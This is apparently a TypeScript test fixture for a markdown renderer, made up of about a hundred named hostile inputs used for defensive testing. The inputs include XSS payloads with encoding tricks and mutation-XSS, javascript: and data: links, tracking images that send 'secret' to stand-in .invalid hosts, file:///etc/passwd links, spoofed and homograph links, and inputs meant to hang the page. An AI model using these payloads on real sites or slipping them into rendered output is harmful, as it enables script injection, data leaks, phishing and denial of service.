/** One hostile answer. Should any of it run, it calls `pwned` with its name, or asks a host under `.invalid` for something. */
export interface HostileAnswer {
  readonly name: string
  readonly markdown: string
}

const answers: Record<string, string> = {
  // Raw HTML that runs, loads or replaces something.
  script: `<script>pwned("script")</script>`,
  'script in a paragraph': `text <script>pwned("script in a paragraph")</script> text`,
  'script split over lines': `<scr\n\nipt>pwned("split")</scr\n\nipt>`,
  'img onerror': `<img src=x onerror="pwned('img onerror')">`,
  'inline img onerror': `text <b onmouseover="pwned('hover')">b</b> <img src=x onerror="pwned('inline img')">`,
  'iframe srcdoc': `<iframe srcdoc="<script>parent.pwned('iframe')</script>"></iframe>`,
  'iframe javascript': `<iframe src="javascript:parent.pwned('iframe')"></iframe>`,
  'object and embed': `<object data="data:text/html,<script>parent.pwned(1)</script>"></object><embed src="https://evil.invalid/e">`,
  svg: `<svg onload="pwned('svg')"><g onload="pwned('g')"></g><script>pwned('svg script')</script></svg>`,
  'svg use': `<svg><use href="data:image/svg+xml,<svg id='x' onload='pwned(1)'/>#x"></use><a xlink:href="javascript:pwned(2)"><text>x</text></a></svg>`,
  'svg entities': `<svg><style><img src=x onerror=pwned('svg entities')></style><desc><![CDATA[</desc><script>pwned(1)</script>]]></svg>`,
  'math and mglyph': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned('mxss')&gt;">`,
  'mathml link': `<math><maction actiontype="statusline" xlink:href="javascript:pwned('maction')">x</maction></math>`,
  'details ontoggle': `<details open ontoggle="pwned('details')"><summary>x</summary></details>`,
  'autofocus onfocus': `<input autofocus onfocus="pwned('focus')"><select autofocus onfocus="pwned(1)"></select>`,
  'video poster': `<video poster="https://evil.invalid/p" onerror="pwned('video')"><source src="https://evil.invalid/v"></video>`,
  'audio source': `<audio src="https://evil.invalid/a" onerror="pwned('audio')" autoplay></audio>`,
  form: `<form action="https://evil.invalid"><input name=k><button formaction="javascript:pwned('form')">x</button></form>`,
  style: `<style>body{display:none;background:url(https://evil.invalid/s)}</style>`,
  'style attribute': `<p style="position:fixed;inset:0;background:url(https://evil.invalid/b)">x</p>`,
  'link stylesheet': `<link rel=stylesheet href="https://evil.invalid/c.css"><link rel=prefetch href="https://evil.invalid/p">`,
  base: `<base href="https://evil.invalid/">\n\n[relative](page)`,
  'meta refresh': `<meta http-equiv=refresh content="0;url=https://evil.invalid/">`,
  'template and noscript': `<noscript><p title="</noscript><img src=x onerror=pwned('noscript')>"></noscript><template><img src=x onerror=pwned(1)></template>`,
  'comment breakout': `<!--><img src=x onerror=pwned('comment')>-->\n\n<!-- --!><img src=x onerror=pwned(2)> -->`,
  'cdata and instruction': `<![CDATA[<img src=x onerror=pwned('cdata')>]]>\n\n<?php <img src=x onerror=pwned(1)> ?>`,
  'clobbering ids': `<a id="root" name="markdown">x</a><form id="pwned"><input name="parentNode"></form><img name="getElementById">`,
  'custom element': `<x-evil onclick="pwned(1)"><slot name="x" onslotchange="pwned('slot')"></slot></x-evil>`,
  'html in a table': `| a | b |\n|---|:-:|\n| <img src=x onerror="pwned('table')"> | <script>pwned('cell')</script> |\n| <br> | <br onload=pwned(1)> |`,
  'html in a list': `- <img src=x onerror="pwned('list')">\n  <iframe src="https://evil.invalid/l"></iframe>\n\n1. <script>pwned(1)</script>`,
  'html in a quote': `> <img src=x onerror="pwned('quote')">\n> <script>\n> pwned('quote script')\n> </script>`,
  'html in a heading': `# <img src=x onerror="pwned('heading')"> title\n\nSetext <svg onload=pwned(1)>\n===`,
  'entities that spell a tag': `&lt;img src=x onerror=pwned('entities')&gt; &#60;script&#62;pwned(1)&#60;/script&#62;`,

  // Links with a scheme of their own.
  javascript: `[a](javascript:pwned('javascript'))`,
  'javascript, mixed case': `[a](JaVaScRiPt:pwned('case'))`,
  'javascript, entity': `[a](javascript&#58;pwned('entity')) [b](javascript&colon;pwned(1)) [c](&#x6A;avascript:pwned(2))`,
  'javascript, tab': `[a](java&#x09;script:pwned('tab')) [b](<java\tscript:pwned(1)>) [c](java&Tab;script&NewLine;:pwned(2))`,
  'javascript, new line': `[a](java\nscript:pwned('newline')) [b](<java&#10;script:pwned(1)>)`,
  'javascript, control character': `[a](<&#1;javascript:pwned('control')>) [b](<\u0001javascript:pwned(1)>) [c](<\u00a0javascript:pwned(2)>)`,
  'javascript, percent': `[a](%6A%61vascript:pwned('percent')) [b](javascript%3Apwned(1)) [c](java%0ascript:pwned(2))`,
  'javascript, comment and slashes': `[a](javascript://evil.invalid/%0Apwned('slashes')) [b](http:javascript:pwned(1))`,
  'javascript, escaped': `[a](javascript\\:pwned('escaped')) [b](\\javascript:pwned(1))`,
  'javascript, zero width': `[a](java\u200bscript:pwned('zw')) [b](\ufeffjavascript:pwned(1)) [c](\u202ejavascript:pwned(2))`,
  vbscript: `[a](vbscript:msgbox(1)) [b](livescript:pwned(1)) [c](mocha:pwned(2))`,
  'data html': `[a](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==) [b](DATA:text/html,<script>pwned(1)</script>)`,
  'blob, filesystem and view-source': `[a](blob:https://evil.invalid/1) [b](filesystem:https://evil.invalid/1) [c](view-source:https://evil.invalid)`,
  file: `[a](file:///etc/passwd) [b](file://evil.invalid/share) [c](\\\\\\\\evil.invalid\\share) [d](//evil.invalid/x)`,
  'programs of the desktop': `[a](ms-msdt:/id) [b](smb://evil.invalid/s) [c](search-ms:query=x) [d](vscode://x) [e](app://aside/x) [f](chrome://settings) [g](tel:1) [h](ssh://x)`,
  autolinks: `<javascript:pwned('autolink')> <data:text/html,x> <file:///etc/passwd> <ms-msdt:/id> <vbscript:x>`,
  'bare addresses': `javascript:pwned('bare') file:///etc/passwd ftp://evil.invalid/x www.evil.invalid https://evil.invalid/ok`,
  'reference link': `[a][r] [r] ![a][r]\n\n[r]: javascript:pwned('reference')`,
  'reference link from elsewhere': `> [r]: data:text/html,<script>pwned(1)</script>\n\n[a][r] and [b][ s ]\n\n[s]: <java\tscript:pwned(2)> "t"`,
  'title attribute': `[a](https://evil.invalid "t\\" onmouseover=\\"pwned('title')") ![b](https://evil.invalid/i 'x" onerror="pwned(1)')`,
  'quote in an address': `[a](https://evil.invalid/"onmouseover="pwned('href')) [b](https://evil.invalid/'><script>pwned(1)</script>)`,
  'credentials in an address': `[https://bank.example](https://bank.example@evil.invalid/) <https://user:pass@evil.invalid/>`,
  'mail with an attachment': `[a](mailto:x@y.example?attach=/etc/passwd) [b](mailto:x@y.example?subject=hi%0d%0aBcc:z@evil.invalid)`,
  'text that lies': `[https://bank.example](https://evil.invalid/login) [\u202ehttps://elpmaxe.knab\u202c](https://evil.invalid/) [bank\u200b.com](https://evil.invalid)`,
  'direction overrides': `safe \u202e)1(denwp:tpircsavaj\u202c [\u2066\u202eabc\u2069](https://evil.invalid/\u202egpj.exe)`,
  'homograph host': `[https://аррӏе.com](https://аррӏе.com/) <https://аррӏе.com/>`,

  // Pictures.
  'remote image': `![a](https://tracker.invalid/p.png?d=secret)`,
  'remote image, other ways in': `![a](//tracker.invalid/p.png) ![b](/p.png) ![c](http://tracker.invalid/p) ![d][i]\n\n[i]: https://tracker.invalid/i.png`,
  'image with a script': `![a](javascript:pwned('image')) ![b](vbscript:x) ![c](file:///etc/passwd)`,
  'image of svg data': `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIi8+) ![b](data:image/svg+xml,<svg/onload=pwned(1)>) ![c](data:text/html,x)`,
  'image data that breaks out': `![a](data:image/png;base64,AA"onerror="pwned('breakout')) ![b](data:image/png,<svg/onload=pwned(1)>)`,
  'image description': `!["><script>pwned('alt')</script>](https://tracker.invalid/a.png) ![x" onerror="pwned(1)](data:image/png;base64,AAAA)`,
  'image in a link': `[![a](https://tracker.invalid/n.png)](javascript:pwned('nested')) [![b](javascript:pwned(1))](https://evil.invalid)`,
  'link in an image': `![a [b](javascript:pwned('inner')) c](https://tracker.invalid/x)`,

  // Math and diagrams.
  'katex href': `$\\href{javascript:pwned('katex')}{x}$ $\\url{javascript:pwned(1)}$`,
  'katex includegraphics': `$\\includegraphics{https://tracker.invalid/k.png}$ \\(\\includegraphics[height=1em]{javascript:pwned(1)}\\)`,
  'katex html': `$\\htmlData{x=1}{y}$ $\\htmlId{root}{y}$ $\\htmlClass{md-code}{y}$ $\\htmlStyle{background:url(https://evil.invalid/h)}{y}$`,
  'katex, invalid': `$\\frac{<img src=x onerror=pwned('invalid')>}$ $$\\begin{x}<script>pwned(1)</script>$$ \\[\\undefined{"><svg onload=pwned(2)>}\\]`,
  'katex text': `$\\text{<img src=x onerror=pwned('text')>}$ $\\unicode{x3c}script\\unicode{x3e}$ $\\color{red;background:url(https://evil.invalid/c)}{x}$`,
  'katex bomb': `$$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d$$ $\\rule{9999em}{9999em}$`,
  'katex loop': `$\\def\\x{\\x\\x}\\x$ $$\\newcommand{\\y}{\\y\\y}\\y$$ $\{${'{'.repeat(500)}x${'}'.repeat(500)}}$`,
  mermaid:
    '```mermaid\ngraph LR\n A["<img src=x onerror=pwned(\'mermaid\')>"] --> B["<iframe src=javascript:parent.pwned(1)></iframe>"]\n click A href "javascript:pwned(2)"\n```',
  'mermaid that loosens itself':
    '```mermaid\n%%{init: {"securityLevel":"loose","themeCSS":"*{background:url(https://evil.invalid/m)}"}}%%\ngraph LR\n A-->B\n```',
  'svg and html in code':
    '```svg\n<svg onload="pwned(\'code\')"/>\n```\n\n```html\n<script>pwned(1)</script>\n<img src=x onerror=pwned(2)>\n```',
  'fence info':
    '```x"onmouseover="pwned(\'info\')\ncode\n```\n\n```"><script>pwned(1)</script>\ncode\n```\n\n~~~ js onload=pwned(2) class="x"\n1\n~~~',
  'fence that never ends': '```js\n</code></pre><script>pwned("open fence")</script>\nlet x = <b onclick=pwned(1)>',
  'code span': '`<img src=x onerror=pwned("span")>` ``</code><script>pwned(1)</script>``',

  // Text that is meant to hang the page.
  'two thousand quotes': `${'>'.repeat(2000)}a`,
  'two thousand quotes, spaced': `${'> '.repeat(2000)}a\n\n${'> - '.repeat(400)}b`,
  'three hundred lists': Array.from({ length: 300 }, (_, level) => `${' '.repeat(level * 2)}- a`).join('\n'),
  'three hundred ordered lists': Array.from({ length: 300 }, (_, level) => `${' '.repeat(level * 3)}1. a`).join('\n'),
  'many brackets': `${'['.repeat(9000)}a](javascript:pwned(1))${'![['.repeat(3000)}`,
  'many links begun': '[a](b'.repeat(4000),
  'many stars': `${'*'.repeat(9000)}a${'*_'.repeat(4000)}`,
  'nested emphasis': `${'*_'.repeat(1500)}a${'_*'.repeat(1500)} ${'~~a *b '.repeat(1000)}`,
  'many backticks': Array.from({ length: 300 }, (_, count) => `${'`'.repeat(count + 1)}a`).join(' '),
  'many dollars': `${'$a '.repeat(4000)}${'$$'.repeat(3000)}${'\\('.repeat(3000)}`,
  'many tags begun': `${'<a '.repeat(4000)}\n\n${'<!--'.repeat(2000)}`,
  'many entities': `${'&#x3c;'.repeat(2000)}${'&'.repeat(9000)}`,
  'wide table': `${'|a'.repeat(300)}|\n${'|-'.repeat(300)}|\n${`${'|<b>'.repeat(300)}|\n`.repeat(5)}`,
  'lines that may be a table': '|a|b\n'.repeat(1500),
  'one long line': 'word '.repeat(12_000),
  'many definitions': Array.from({ length: 400 }, (_, at) => `[r${at}]: javascript:pwned(${at})\n[r${at}]\n`).join(
    '\n',
  ),
  'strange characters': `NUL \0 ${'\0'.repeat(20)} [a](java\0script:pwned('nul')) \ud800 \udfff \ufffe \u2028 \u2029 \r <\0script>pwned(1)</script>`,
  'prototype names': `[__proto__] [constructor][toString]\n\n[__proto__]: javascript:pwned('proto')\n[constructor]: javascript:pwned(1)\n\n\`\`\`constructor\nx\n\`\`\`\n\n\`\`\`__proto__\nx\n\`\`\`\n\n&constructor; &__proto__;`,
}

/** Answers that try to run something, load something, lie about a link or hang the page. None may. */
export const xssCorpus: readonly HostileAnswer[] = Object.entries(answers).map(([name, markdown]) => ({
  name,
  markdown,
}))
